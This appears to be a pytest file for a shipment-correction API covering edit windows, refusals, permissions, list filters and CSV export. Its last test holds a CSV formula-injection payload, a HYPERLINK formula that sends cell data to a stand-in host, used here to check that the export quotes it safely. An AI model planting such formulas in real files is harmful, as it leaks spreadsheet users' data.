"""p02 shipment corrections over the API: what may change while the boxes wait, the refusal
(409 with the rule row and its source) once they moved, nothing half-applied, the recomputed
route comparison, the anchored history, and the shipment list with filters and CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

from ftz.core.rules import load_golden
from ftz.practices.linked_unloading.service import rules
from tests.conftest import ApiClients
from tests.practices.linked_unloading.conftest import SHIPMENT

API = "/api/linked-unloading"


def _file(lu: ApiClients, body: dict[str, Any] | None = None, user: str = "lu.wuhu") -> Any:
    response = lu.as_(user).post(f"{API}/shipments", json=body or SHIPMENT)
    assert response.status_code == 201, response.text
    return response.json()


def _edit(lu: ApiClients, shipment_id: str, body: dict[str, Any], user: str = "lu.wuhu") -> Any:
    return lu.as_(user).patch(f"{API}/shipments/{shipment_id}", json=body)


def _post(lu: ApiClients, user: str, container_id: str, event: str) -> None:
    done = lu.as_(user).post(f"{API}/containers/{container_id}/events", json={"event": event})
    assert done.status_code == 201, done.text


def test_corrections_before_anything_moves(lu: ApiClients) -> None:
    shipment = _file(lu)
    sid = shipment["id"]
    assert shipment["comparison"]["saved_cny_vs_transshipment"] == 600  # 3 TEU import
    body = {
        "consignee": "芜湖联运（更正）",
        "bill_of_lading": " yslu000002 ",
        "vessel": "COSCO SHIPPING ARIES",
        "declared_in_advance": False,
        "port_code": "hfe",
        "containers": [
            {"number": "CSQU3054383", "size_ft": 20},  # 40 → 20
            {"number": "TGHU 8841599", "size_ft": 40},  # added; MSKU9070323 left out
        ],
    }
    edited = _edit(lu, sid, body)
    assert edited.status_code == 200, edited.text
    out = edited.json()
    assert (out["consignee"], out["bill_of_lading"], out["port_code"]) == (
        "芜湖联运（更正）", "YSLU000002", "HFE",
    )  # fmt: skip
    assert out["teu"] == 3 and out["comparison"]["port"] == "HFE"
    assert out["fast_track"]["eligible"] is False  # no longer declared in advance
    assert out["fast_track"]["fired"][0]["row_id"] == "FT-IMP-LATE"
    boxes = {c["number"]: c for c in out["containers"]}
    assert boxes["MSKU9070323"]["status"] == "cancelled"
    added = boxes["TGHU8841599"]
    assert added["status"] == "declared" and added["port_code"] == "HFE"
    assert boxes["CSQU3054383"]["size_ft"] == 20 and boxes["CSQU3054383"]["port_code"] == "HFE"
    removed = lu.as_("lu.wuhu").get(f"{API}/containers/{boxes['MSKU9070323']['id']}").json()
    assert removed["events"][-1]["event"] == "cancel" and removed["events"][-1]["ledger_index"] >= 0

    history = lu.as_("lu.wuhu").get(f"{API}/shipments/{sid}/history").json()
    assert [h["action"] for h in history] == ["filed", "corrected"]
    changes = history[1]["changes"]
    assert changes["port_code"] == {"before": "WUH", "after": "HFE"}
    assert changes["containers"]["removed"] == ["MSKU9070323"]
    assert changes["containers"]["added"] == [{"number": "TGHU8841599", "size_ft": 40}]
    assert changes["comparison"]["after"]["port"] == "HFE"
    assert history[1]["ledger_index"] >= 0 and "EW-PORT-IMP" in history[1]["rows"]
    assert history[1]["actor"] == "lu.wuhu"

    same = _edit(lu, sid, {"vessel": "COSCO SHIPPING ARIES"})  # nothing differs: no new line
    assert same.status_code == 200
    assert len(lu.as_("lu.wuhu").get(f"{API}/shipments/{sid}/history").json()) == 2


def test_refused_once_containers_moved(lu: ApiClients) -> None:
    shipment = _file(lu)
    sid = shipment["id"]
    first, second = (c["id"] for c in shipment["containers"])
    _post(lu, "lu.customs", first, "release")
    refused = _edit(lu, sid, {"consignee": "Someone else", "vessel": "EVER GIVEN"})
    assert refused.status_code == 409
    assert refused.headers["content-type"].startswith("application/problem+json")
    problem = refused.json()
    assert problem["type"] == "/problems/edit-window-closed"
    assert [e["field"] for e in problem["errors"]] == ["consignee"]
    assert "EW-DECL-LATE" in problem["errors"][0]["reason"]
    assert "海关总署令第220号" in problem["errors"][0]["reason"]
    again = lu.as_("lu.wuhu").get(f"{API}/shipments/{sid}").json()
    assert again["consignee"] == SHIPMENT["consignee"] and again["vessel"] == ""  # nothing kept
    assert _edit(lu, sid, {"vessel": "EVER GIVEN"}).status_code == 200  # still at Yangshan

    for user, event in (("lu.barge", "load_barge"),):
        _post(lu, user, first, event)
    port = _edit(lu, sid, {"port_code": "AQG"})
    assert port.status_code == 409 and "EW-PORT-LATE" in port.json()["errors"][0]["reason"]
    moved_box = {"containers": [{"number": "MSKU9070323", "size_ft": 20}]}  # drops the moving one
    assert _edit(lu, sid, moved_box).status_code == 409
    assert "EW-BOX-LATE" in _edit(lu, sid, moved_box).json()["errors"][0]["reason"]
    add = {"containers": [*SHIPMENT["containers"], {"number": "TGHU8841599"}]}
    assert "EW-PORT-LATE" in _edit(lu, sid, add).json()["errors"][0]["reason"]
    # The box still waiting at Yangshan may be resized or removed.
    keep = {"containers": [{"number": "CSQU3054383", "size_ft": 40}]}
    done = _edit(lu, sid, keep)
    assert done.status_code == 200 and done.json()["teu"] == 2
    states = {c["id"]: c["status"] for c in done.json()["containers"]}
    assert states == {first: "on_barge", second: "cancelled"}


def test_bad_input_and_who_may_edit(lu: ApiClients) -> None:
    shipment = _file(lu)
    sid = shipment["id"]
    bad = _edit(lu, sid, {"containers": [{"number": "CSQU3054384"}]})
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "containers.0.number"
    assert _edit(lu, sid, {"port_code": "XXX"}).json()["errors"][0]["field"] == "port_code"
    assert _edit(lu, sid, {"direction": "export"}).status_code == 422  # never editable
    assert _edit(lu, sid, {"consignee": ""}).status_code == 422
    assert _edit(lu, sid, {"containers": []}).status_code == 422
    twice = {"containers": [{"number": "CSQU3054383"}, {"number": "CSQU 3054383"}]}
    assert _edit(lu, sid, twice).status_code == 422
    assert _edit(lu, sid, {"consignee": "x"}, user="ent.a").status_code == 404
    assert _edit(lu, sid, {"consignee": "x"}, user="lu.customs").status_code == 403
    assert lu.anonymous().patch(f"{API}/shipments/{sid}", json={}).status_code == 401
    assert lu.as_("ent.a").get(f"{API}/shipments/{sid}/history").status_code == 404
    after = lu.as_("lu.wuhu").get(f"{API}/shipments/{sid}").json()
    assert after == shipment  # every refusal left the shipment as filed
    cancelled = {"containers": [{"number": "CSQU3054383"}]}
    assert _edit(lu, sid, cancelled).status_code == 200
    readd = _edit(lu, sid, {"containers": SHIPMENT["containers"]})
    assert readd.status_code == 422 and "new shipment" in readd.json()["errors"][0]["reason"]


def test_shipment_list_filters_and_csv(lu: ApiClients) -> None:
    _file(lu)
    export = _file(lu, {**SHIPMENT, "direction": "export", "port_code": "TAC",
                        "bill_of_lading": "B2", "vessel": "ZHONG GU"}, "lu.hefei")  # fmt: skip
    customs = lu.as_("lu.customs")
    assert customs.get(f"{API}/shipments").json()["total"] == 2
    assert customs.get(f"{API}/shipments?direction=export").json()["total"] == 1
    assert customs.get(f"{API}/shipments?port=tac").json()["items"][0]["id"] == export["id"]
    assert customs.get(f"{API}/shipments?q=zhong").json()["total"] == 1
    assert customs.get(f"{API}/shipments?q=芜湖联运").json()["total"] == 2
    assert customs.get(f"{API}/shipments?status=booked").json()["total"] == 1
    assert customs.get(f"{API}/shipments?size=1&page=2").json()["items"][0]["bill_of_lading"] in (
        "B2", "YSLU000001",
    )  # fmt: skip
    csv = customs.get(f"{API}/shipments.csv?direction=export")
    assert csv.headers["content-type"].startswith("text/csv")
    lines = csv.text.splitlines()
    assert lines[0].startswith("shipment,direction,port") and len(lines) == 2
    assert ",TAC," in lines[1] and "booked:2" in lines[1]
    assert lu.as_("lu.wuhu").get(f"{API}/shipments.csv").text.count("\n") == 2  # own only
    assert customs.get(f"{API}/shipments?direction=sideways").status_code == 422


def test_every_edit_window_row_has_a_golden_case() -> None:
    table = next(n for n in rules().document("edit_window.json")["nodes"]
                 if n["type"] == "decisionTableNode")  # fmt: skip
    cases = [c for c in load_golden(rules().folder) if c.decision == "edit_window.json"]
    fired = {rules().evaluate("edit_window.json", c.input).fired[0].row_id for c in cases}
    assert {row["_id"] for row in table["content"]["rules"]} == fired


def test_the_export_never_hands_a_spreadsheet_a_formula(lu: ApiClients) -> None:
    """A consignee typed as a formula is exported quoted, so a spreadsheet shows it as text."""
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    shipment = _file(lu, {**SHIPMENT, "consignee": typed})
    exported = lu.as_("lu.wuhu").get(f"{API}/shipments.csv").text
    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
             if r["shipment"] == shipment["number"]]  # fmt: skip
    assert row["consignee"] == "'" + typed
